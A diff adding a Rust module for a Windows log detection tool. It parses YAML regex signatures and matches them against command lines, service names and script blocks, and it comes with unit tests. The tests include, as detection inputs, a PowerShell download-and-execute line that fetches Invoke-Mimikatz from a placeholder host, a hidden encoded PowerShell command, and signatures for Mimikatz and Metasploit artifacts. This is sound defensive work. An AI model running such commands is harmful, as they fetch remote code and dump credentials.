@@ -0,0 +1,546 @@
+extern crate aho_corasick;
+extern crate regex_syntax;
+extern crate yaml_rust;
+
+use crate::detections::level::Level;
+use crate::detections::mitre;
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
+use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
+use regex_syntax::hir::literal::Literals;
+use regex_syntax::ParserBuilder;
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use yaml_rust::{Yaml, YamlLoader};
+
+// これより短いリテラルしか取り出せないシグネチャは、絞り込みの効果がないのでRegexSetで調べる
+const MIN_LITERAL_LEN: usize = 3;
+
+//
+// シグネチャを適用する文字列の種類
+// regexes.txtのType 0はコマンドライン、Type 1はサービス名だった
+//
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Target {
+    CommandLine,
+    ServiceName,
+    ImagePath,
+    ScriptBlock,
+}
+
+pub const TARGETS: [Target; 4] = [
+    Target::CommandLine,
+    Target::ServiceName,
+    Target::ImagePath,
+    Target::ScriptBlock,
+];
+
+impl Target {
+    pub fn from_str(target: &str) -> Result<Target, String> {
+        return match target.trim().to_lowercase().as_str() {
+            "command_line" => Result::Ok(Target::CommandLine),
+            "service_name" => Result::Ok(Target::ServiceName),
+            "image_path" => Result::Ok(Target::ImagePath),
+            "script_block" => Result::Ok(Target::ScriptBlock),
+            _ => Result::Err(format!(
+                "invalid target: {}. use command_line, service_name, image_path or script_block.",
+                target
+            )),
+        };
+    }
+
+    pub fn as_str(&self) -> &'static str {
+        return match self {
+            Target::CommandLine => "command_line",
+            Target::ServiceName => "service_name",
+            Target::ImagePath => "image_path",
+            Target::ScriptBlock => "script_block",
+        };
+    }
+}
+
+#[derive(Debug, Clone)]
+pub struct Signature {
+    // 検知時に表示する説明
+    pub description: String,
+    pub targets: Vec<Target>,
+    pub pattern: String,
+    pub regex: Regex,
+    pub level: Option<Level>,
+    // MITRE ATT&CK Technique ID
+    pub techniques: Vec<String>,
+    pub case_sensitive: bool,
+}
+
+impl Signature {
+    pub fn is_target(&self, target: Target) -> bool {
+        return self.targets.contains(&target);
+    }
+
+    pub fn is_match(&self, string: &str) -> bool {
+        return self.regex.is_match(string);
+    }
+
+    // このシグネチャに一致する文字列は、必ずいずれかのリテラルで始まる(または終わる)
+    // 先頭から取り出せない場合は末尾から取り出し、どちらもできない場合はNone
+    fn required_literals(&self) -> Option<Vec<Vec<u8>>> {
+        let hir = ParserBuilder::new()
+            .case_insensitive(!self.case_sensitive)
+            .build()
+            .parse(&self.pattern)
+            .ok()?;
+        return vec![Literals::prefixes(&hir), Literals::suffixes(&hir)]
+            .into_iter()
+            .map(|literals| -> Vec<Vec<u8>> {
+                literals.literals().iter().map(|l| l.to_vec()).collect()
+            })
+            .find(|literals| {
+                !literals.is_empty() && literals.iter().all(|l| l.len() >= MIN_LITERAL_LEN)
+            });
+    }
+}
+
+//
+// Target毎のシグネチャをまとめて照合する
+// リテラルを取り出せるシグネチャはAho-Corasickで候補を絞り込んでから正規表現で確認し、
+// 取り出せないものはRegexSetで一度に照合する
+//
+#[derive(Clone)]
+struct TargetMatcher {
+    target: Target,
+    prefilter: Option<AhoCorasick>,
+    // index: Aho-Corasickのパターン番号, value: シグネチャの番号
+    literal_owners: Vec<Vec<usize>>,
+    // RegexSetが大きすぎて作れない場合はNoneにして1つずつ照合する
+    regex_set: Option<RegexSet>,
+    // index: RegexSetのパターン番号, value: シグネチャの番号
+    set_owners: Vec<usize>,
+}
+
+#[derive(Clone)]
+pub struct SignatureSet {
+    pub signatures: Vec<Signature>,
+    matchers: Vec<TargetMatcher>,
+}
+
+impl SignatureSet {
+    pub fn new(signatures: Vec<Signature>) -> SignatureSet {
+        let matchers = TARGETS
+            .iter()
+            .map(|target| SignatureSet::build_matcher(&signatures, *target))
+            .collect();
+        return SignatureSet {
+            signatures: signatures,
+            matchers: matchers,
+        };
+    }
+
+    fn build_matcher(signatures: &Vec<Signature>, target: Target) -> TargetMatcher {
+        // key: リテラル, value: シグネチャの番号
+        let mut literals: BTreeMap<Vec<u8>, BTreeSet<usize>> = BTreeMap::new();
+        let mut set_owners: Vec<usize> = vec![];
+        for (i, signature) in signatures.iter().enumerate() {
+            if !signature.is_target(target) {
+                continue;
+            }
+            match signature.required_literals() {
+                Some(prefixes) => prefixes.into_iter().for_each(|literal| {
+                    literals
+                        .entry(literal)
+                        .or_insert_with(BTreeSet::new)
+                        .insert(i);
+                }),
+                None => set_owners.push(i),
+            }
+        }
+
+        // 大文字小文字を区別しないシグネチャもあるので、絞り込みでは区別しない
+        let prefilter = if literals.is_empty() {
+            Option::None
+        } else {
+            Option::Some(
+                AhoCorasickBuilder::new()
+                    .ascii_case_insensitive(true)
+                    .build(literals.keys()),
+            )
+        };
+        let literal_owners = literals
+            .into_iter()
+            .map(|(_, owners)| owners.into_iter().collect())
+            .collect();
+
+        let patterns: Vec<String> = set_owners
+            .iter()
+            .map(|i| {
+                let signature = &signatures[*i];
+                if signature.case_sensitive {
+                    signature.pattern.to_string()
+                } else {
+                    format!("(?i){}", signature.pattern)
+                }
+            })
+            .collect();
+        let regex_set = RegexSetBuilder::new(patterns)
+            .size_limit(100 * (1 << 20))
+            .build()
+            .ok();
+
+        return TargetMatcher {
+            target: target,
+            prefilter: prefilter,
+            literal_owners: literal_owners,
+            regex_set: regex_set,
+            set_owners: set_owners,
+        };
+    }
+
+    // 一致したシグネチャをファイルに書かれた順に返す
+    pub fn matches(&self, string: &str, target: Target) -> Vec<&Signature> {
+        let matcher = match self.matchers.iter().find(|m| m.target == target) {
+            Some(matcher) => matcher,
+            None => return vec![],
+        };
+
+        let mut hits: BTreeSet<usize> = BTreeSet::new();
+        if let Some(prefilter) = &matcher.prefilter {
+            let mut candidates: BTreeSet<usize> = BTreeSet::new();
+            prefilter.find_overlapping_iter(string).for_each(|m| {
+                candidates.extend(matcher.literal_owners[m.pattern()].iter());
+            });
+            candidates
+                .into_iter()
+                .filter(|i| self.signatures[*i].is_match(string))
+                .for_each(|i| {
+                    hits.insert(i);
+                });
+        }
+        match &matcher.regex_set {
+            Some(regex_set) => regex_set.matches(string).into_iter().for_each(|i| {
+                hits.insert(matcher.set_owners[i]);
+            }),
+            None => matcher
+                .set_owners
+                .iter()
+                .filter(|i| self.signatures[**i].is_match(string))
+                .for_each(|i| {
+                    hits.insert(*i);
+                }),
+        }
+
+        return hits.into_iter().map(|i| &self.signatures[i]).collect();
+    }
+}
+
+//
+// シグネチャファイル(YAML)を読み込む
+// 読み込めなかったシグネチャは飛ばして、エラーの内容を返す
+//
+pub fn read_signatures(path: &str) -> (Vec<Signature>, Vec<String>) {
+    return match fs::read_to_string(path) {
+        Ok(contents) => parse_signatures(&contents, path),
+        Err(e) => (vec![], vec![format!("{} not found , {}", path, e)]),
+    };
+}
+
+pub fn parse_signatures(contents: &str, path: &str) -> (Vec<Signature>, Vec<String>) {
+    let yaml = match YamlLoader::load_from_str(contents) {
+        Ok(yaml) => yaml,
+        Err(e) => return (vec![], vec![format!("{}: fail to read file, {}", path, e)]),
+    };
+    let entries = match yaml.get(0).and_then(|doc| doc["signatures"].as_vec()) {
+        Some(entries) => entries,
+        None => return (vec![], vec![format!("{}: signatures not found", path)]),
+    };
+
+    let mut signatures = vec![];
+    let mut errors = vec![];
+    for (i, entry) in entries.iter().enumerate() {
+        match parse_signature(entry) {
+            Ok(signature) => signatures.push(signature),
+            Err(e) => errors.push(format!("{}: signature #{}: {}", path, i + 1, e)),
+        }
+    }
+    return (signatures, errors);
+}
+
+fn parse_signature(entry: &Yaml) -> Result<Signature, String> {
+    let description = entry["description"]
+        .as_str()
+        .filter(|s| !s.is_empty())
+        .ok_or("description is required")?;
+    let pattern = entry["regex"]
+        .as_str()
+        .filter(|s| !s.is_empty())
+        .ok_or(format!("regex is required ({})", description))?;
+
+    // targetは1つでもリストでも書ける
+    let target_strs: Vec<&str> = match &entry["target"] {
+        Yaml::String(target) => vec![target],
+        Yaml::Array(targets) => targets.iter().filter_map(|t| t.as_str()).collect(),
+        _ => vec![],
+    };
+    if target_strs.is_empty() {
+        return Result::Err(format!("target is required ({})", description));
+    }
+    let mut targets = vec![];
+    for target in target_strs {
+        targets.push(Target::from_str(target).map_err(|e| format!("{} ({})", e, description))?);
+    }
+
+    let level = match entry["level"].as_str() {
+        Some(level) => {
+            Option::Some(Level::from_str(level).map_err(|e| format!("{} ({})", e, description))?)
+        }
+        None => Option::None,
+    };
+    let case_sensitive = entry["case_sensitive"].as_bool().unwrap_or(true);
+    let regex = RegexBuilder::new(pattern)
+        .case_insensitive(!case_sensitive)
+        .build()
+        .map_err(|e| format!("invalid regex ({}), {}", description, e))?;
+
+    let signature = Signature {
+        description: description.to_string(),
+        targets: targets,
+        pattern: pattern.to_string(),
+        regex: regex,
+        level: level,
+        techniques: mitre::techniques_of_rule(entry),
+        case_sensitive: case_sensitive,
+    };
+
+    // テスト用の文字列で、シグネチャが意図通りに動くか確認する
+    let tests = &entry["tests"];
+    for string in tests["match"].as_vec().unwrap_or(&vec![]) {
+        let string = string.as_str().unwrap_or("");
+        if !signature.is_match(string) {
+            return Result::Err(format!(
+                "test failed ({}), does not match: {}",
+                description, string
+            ));
+        }
+    }
+    for string in tests["no_match"].as_vec().unwrap_or(&vec![]) {
+        let string = string.as_str().unwrap_or("");
+        if signature.is_match(string) {
+            return Result::Err(format!(
+                "test failed ({}), matches: {}",
+                description, string
+            ));
+        }
+    }
+
+    return Result::Ok(signature);
+}
+
+//
+// 旧形式のregexes.txt(Type, regex, string)をシグネチャファイルの形式に変換する
+// Type 0はcommand_line, image_path, script_blockに、Type 1はservice_nameにする
+//
+pub fn import_legacy_csv(rows: &Vec<Vec<String>>) -> Result<String, String> {
+    let empty = "".to_string();
+    let mut yaml = String::from("signatures:\n");
+    for row in rows {
+        let type_str = row.get(0).unwrap_or(&empty);
+        let regex_str = row.get(1).unwrap_or(&empty);
+        let text = row.get(2).unwrap_or(&empty);
+        if type_str.starts_with("#") || regex_str.is_empty() || text.is_empty() {
+            continue;
+        }
+        let targets = match type_str.trim() {
+            "0" => "[command_line, image_path, script_block]",
+            "1" => "[service_name]",
+            _ => return Result::Err(format!("unknown type: {} ({})", type_str, text)),
+        };
+        yaml.push_str(&format!("  - description: {}\n", quote(text)));
+        yaml.push_str(&format!("    target: {}\n", targets));
+        yaml.push_str(&format!("    regex: {}\n", quote(regex_str)));
+    }
+    return Result::Ok(yaml);
+}
+
+// YAMLのシングルクォートではバックスラッシュをエスケープしなくてよい
+fn quote(s: &str) -> String {
+    return format!("'{}'", s.replace("'", "''"));
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::detections::level::Level;
+    use crate::detections::signature;
+    use crate::detections::signature::{SignatureSet, Target};
+
+    #[test]
+    fn test_parse_signatures() {
+        let yaml = r#"
+signatures:
+  - description: Command referencing Mimikatz
+    target: command_line
+    regex: 'mimikatz'
+    level: critical
+    case_sensitive: false
+    tags: [attack.credential_access, attack.t1003.001]
+    tests:
+      match: ['Invoke-MIMIKATZ -DumpCreds']
+      no_match: ['notepad.exe']
+  - description: Metasploit-style service name
+    target: [service_name]
+    regex: '^[a-zA-Z]{16}$'
+  - description: Broken regex
+    target: command_line
+    regex: '(unclosed'
+  - description: Unknown target
+    target: registry
+    regex: 'Run'
+  - description: Failed test
+    target: command_line
+    regex: '\\csc\.exe'
+    tests:
+      match: ['csc.exe']
+"#;
+        let (signatures, errors) = signature::parse_signatures(yaml, "test.yml");
+        assert_eq!(2, signatures.len());
+        assert_eq!(3, errors.len());
+        assert!(errors[0].starts_with("test.yml: signature #3: invalid regex (Broken regex)"));
+        assert!(errors[1].starts_with("test.yml: signature #4: invalid target: registry"));
+        assert!(errors[2].starts_with("test.yml: signature #5: test failed (Failed test)"));
+
+        let mimikatz = &signatures[0];
+        assert_eq!(Option::Some(Level::Critical), mimikatz.level);
+        assert_eq!(vec!["T1003.001"], mimikatz.techniques);
+        assert!(mimikatz.is_target(Target::CommandLine));
+        assert!(!mimikatz.is_target(Target::ServiceName));
+        assert!(mimikatz.is_match("MimiKatz.exe"));
+
+        let service = &signatures[1];
+        assert!(service.case_sensitive);
+        assert_eq!(Option::None, service.level);
+        assert!(service.is_target(Target::ServiceName));
+    }
+
+    #[test]
+    fn test_signature_set() {
+        let (signatures, errors) = signature::read_signatures("signatures.yml");
+        assert!(errors.is_empty(), "{:?}", errors);
+        let set = SignatureSet::new(signatures.clone());
+
+        let strings = vec![
+            "cmd.exe /c echo abcdef > \\\\.\\pipe\\ghijkl",
+            "powershell.exe -W Hidden -Enc SQBFAFgA",
+            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /OUT:\"C:\\Users\\user\\AppData\\Local\\Temp\\RES1A2B.tmp\"",
+            "IEX (New-Object Net.WebClient).DownloadString('http://example.com/Invoke-Mimikatz.ps1')",
+            "C:\\Windows\\system32\\svchost.exe -k netsvcs",
+            "aBcDeFgHiJkLmNoPqRsTuV",
+            "",
+        ];
+        // 1つずつ照合した結果と同じになる
+        for target in signature::TARGETS.iter() {
+            for string in &strings {
+                let expected: Vec<&str> = signatures
+                    .iter()
+                    .filter(|s| s.is_target(*target) && s.is_match(string))
+                    .map(|s| s.description.as_str())
+                    .collect();
+                let actual: Vec<&str> = set
+                    .matches(string, *target)
+                    .iter()
+                    .map(|s| s.description.as_str())
+                    .collect();
+                assert_eq!(expected, actual, "{} {:?}", string, target);
+            }
+        }
+
+        let actual = set.matches(strings[3], Target::CommandLine);
+        assert_eq!(3, actual.len());
+        assert_eq!(
+            "Download via Net.WebClient DownloadString",
+            actual[0].description
+        );
+        assert_eq!("Command referencing Mimikatz", actual[1].description);
+        assert_eq!("PowerSploit Invoke-Mimikatz.ps1", actual[2].description);
+        assert!(set.matches(strings[4], Target::CommandLine).is_empty());
+    }
+
+    #[test]
+    fn test_required_literals() {
+        let (signatures, _) = signature::parse_signatures(
+            r#"
+signatures:
+  - description: literal
+    target: command_line
+    regex: '\\csc\.exe'
+  - description: class
+    target: command_line
+    regex: '[a-zA-Z0-9/+=]{500}'
+  - description: alternation
+    target: command_line
+    regex: '(?:psexec|paexec)\.exe'
+  - description: suffix
+    target: command_line
+    regex: '[a-f0-9]{8}\.ps1'
+"#,
+            "test.yml",
+        );
+        assert_eq!(
+            Option::Some(vec![b"\\csc.exe".to_vec()]),
+            signatures[0].required_literals()
+        );
+        assert_eq!(Option::None, signatures[1].required_literals());
+        assert_eq!(
+            Option::Some(vec![b"paexec.exe".to_vec(), b"psexec.exe".to_vec()]),
+            signatures[2].required_literals().map(|mut l| {
+                l.sort();
+                l
+            })
+        );
+        assert_eq!(
+            Option::Some(vec![b".ps1".to_vec()]),
+            signatures[3].required_literals()
+        );
+    }
+
+    #[test]
+    fn test_read_signatures() {
+        let (signatures, errors) = signature::read_signatures("signatures.yml");
+        assert!(errors.is_empty(), "{:?}", errors);
+        assert!(signatures.len() > 0);
+
+        let (signatures, errors) = signature::read_signatures("hogehoge.yml");
+        assert_eq!(0, signatures.len());
+        assert_eq!(1, errors.len());
+    }
+
+    #[test]
+    fn test_import_legacy_csv() {
+        let rows = vec![
+            vec![
+                "0".to_string(),
+                "^%SYSTEMROOT%\\\\[a-zA-Z]{8}\\.exe$".to_string(),
+                "Metasploit-style %SYSTEMROOT% image path (possible use of Metasploit 'Native upload' exploit payload)".to_string(),
+            ],
+            vec![
+                "1".to_string(),
+                "^[a-zA-Z]{22}$".to_string(),
+                "Metasploit-style service name: 22 characters".to_string(),
+            ],
+            vec!["# comment".to_string()],
+        ];
+        let yaml = signature::import_legacy_csv(&rows).unwrap();
+        let (signatures, errors) = signature::parse_signatures(&yaml, "imported");
+        assert!(errors.is_empty(), "{:?}", errors);
+        assert_eq!(2, signatures.len());
+        assert_eq!(
+            "Metasploit-style %SYSTEMROOT% image path (possible use of Metasploit 'Native upload' exploit payload)",
+            signatures[0].description
+        );
+        assert!(signatures[0].is_match("%SYSTEMROOT%\\abcdefgh.exe"));
+        assert!(signatures[0].is_target(Target::ScriptBlock));
+        assert_eq!(vec![Target::ServiceName], signatures[1].targets);
+
+        assert!(signature::import_legacy_csv(&vec![vec![
+            "2".to_string(),
+            "a".to_string(),
+            "b".to_string()
+        ]])
+        .is_err());
+    }
+}